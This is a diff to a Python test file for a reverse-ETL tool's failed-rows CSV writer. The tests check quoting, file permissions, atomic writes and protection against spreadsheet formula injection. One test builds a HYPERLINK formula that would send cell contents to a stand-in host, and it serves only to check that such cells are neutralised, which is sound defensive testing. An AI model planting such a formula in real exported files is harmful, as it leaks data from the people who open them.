@@ -3,17 +3,21 @@
 from __future__ import annotations
 
 import csv
+import io
 import os
 import re
+import tempfile
 from collections.abc import Iterator
 from dataclasses import replace
 from datetime import UTC, datetime
 from pathlib import Path
 
+import pyarrow as pa
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
+from reverse_etl.changeset.failed_rows import batches_of
 from reverse_etl.changeset.failed_rows_csv import as_it_was, harmless, write_failed_rows
 from reverse_etl.report import FAILED_ROW_COLUMNS, Counts, FailedRow, Outcome, Reason, RunReport, Status
 
@@ -90,7 +94,7 @@ def test_the_csv_has_the_fixed_columns(tmp_path: Path) -> None:
     """Header, rows in order, quoting as CSV has it; folders are made."""
     awkward = FailedRow(3, "relationships", 'a,"b"\nc', "customerio", Reason("invalid", "", "no"))
     path = tmp_path / "new" / "failed.csv"
-    assert 2 == write_failed_rows(path, iter([ROW, awkward]))
+    assert 2 == write_failed_rows(path, batches_of([ROW, awkward]))
     with path.open(newline="") as file:
         found = list(csv.reader(file))
     header = ["row_number", "query", "identifier", "stage", "reason", "field", "message", "attempt"]
@@ -104,18 +108,34 @@ def test_the_csv_has_the_fixed_columns(tmp_path: Path) -> None:
 def test_no_cell_runs_in_a_spreadsheet(sign: str, tmp_path: Path) -> None:
     """Whatever column it stands in: an apostrophe makes it text."""
     cell = f'{sign}HYPERLINK("http://x.invalid/?"&A1,"open")'
-    write_failed_rows(tmp_path / "failed.csv", [FailedRow(1, cell, cell, cell, Reason(cell, cell, cell))])
+    write_failed_rows(tmp_path / "failed.csv", batches_of([FailedRow(1, cell, cell, cell, Reason(cell, cell, cell))]))
     with (tmp_path / "failed.csv").open(newline="") as file:
         (row,) = csv.DictReader(file)
     assert {"row_number": "1", "attempt": "1", **dict.fromkeys(list(FAILED_ROW_COLUMNS)[1:-1], f"'{cell}")} == row
 
 
-@given(st.text(alphabet="'=+-@;\t\r\na,\"1", max_size=8))
+@given(st.text(alphabet="'=+-@;\t\r\na,\"1＝é", max_size=8))
 def test_a_harmless_cell_can_be_read_back(cell: str) -> None:
     """Also one that began with apostrophes; no part runs where a spreadsheet parts cells at semicolons or tabs."""
-    assert cell == as_it_was(harmless(cell))
-    assert not harmless(cell).startswith(("=", "+", "-", "@", "\t", "\r"))
-    assert not any(part.startswith(("=", "+", "-", "@")) for part in re.split(r"[;\t\r\n]", harmless(cell)))
+    (shown,) = harmless(pa.array([cell])).to_pylist()
+    assert cell == as_it_was(shown)
+    assert not shown.startswith(("=", "+", "-", "@", "\t", "\r", "＝"))
+    assert not any(part.startswith(("=", "+", "-", "@", "＝")) for part in re.split(r"[;\t\r\n]", shown))
+
+
+_CELLS = st.text(alphabet=" '\r\na,\"1é", max_size=6).map(lambda text: f"x{text}" if text else "")
+"""Texts that no spreadsheet runs."""
+
+
+@given(st.lists(st.tuples(_CELLS, _CELLS), max_size=5))
+def test_the_csv_is_written_as_python_writes_one(cells: list[tuple[str, str]]) -> None:
+    """Byte by byte, whatever has to be quoted; a text that comes again is the same again."""
+    rows = [FailedRow(n, "rows", key, "check", Reason("r", "", text)) for n, (key, text) in enumerate(cells)]
+    with tempfile.TemporaryDirectory() as folder:
+        write_failed_rows(path := Path(folder) / "failed.csv", batches_of(rows))
+        expected = io.StringIO(newline="")
+        csv.writer(expected).writerows([FAILED_ROW_COLUMNS, *(row.columns().values() for row in rows)])
+        assert expected.getvalue() == path.read_bytes().decode()
 
 
 def test_the_csv_is_its_owners_alone(tmp_path: Path) -> None:
@@ -125,7 +145,7 @@ def test_the_csv_is_its_owners_alone(tmp_path: Path) -> None:
     path.chmod(0o644)
     before = os.umask(0)
     try:
-        write_failed_rows(path, [ROW])
+        write_failed_rows(path, batches_of([ROW]))
     finally:
         os.umask(before)
     assert 0o600 == path.stat().st_mode & 0o777
@@ -134,7 +154,7 @@ def test_the_csv_is_its_owners_alone(tmp_path: Path) -> None:
 def test_the_csv_appears_whole_or_not_at_all(tmp_path: Path) -> None:
     """Rows that cannot be read to their end leave the former file as it was."""
     path = tmp_path / "failed.csv"
-    write_failed_rows(path, [ROW])
+    write_failed_rows(path, batches_of([ROW]))
     former = path.read_text()
 
     def broken() -> Iterator[FailedRow]:
@@ -142,5 +162,5 @@ def test_the_csv_appears_whole_or_not_at_all(tmp_path: Path) -> None:
         raise RuntimeError("unreadable")
 
     with pytest.raises(RuntimeError, match="unreadable"):
-        write_failed_rows(path, broken())
+        write_failed_rows(path, batches_of(broken()))
     assert former == path.read_text()
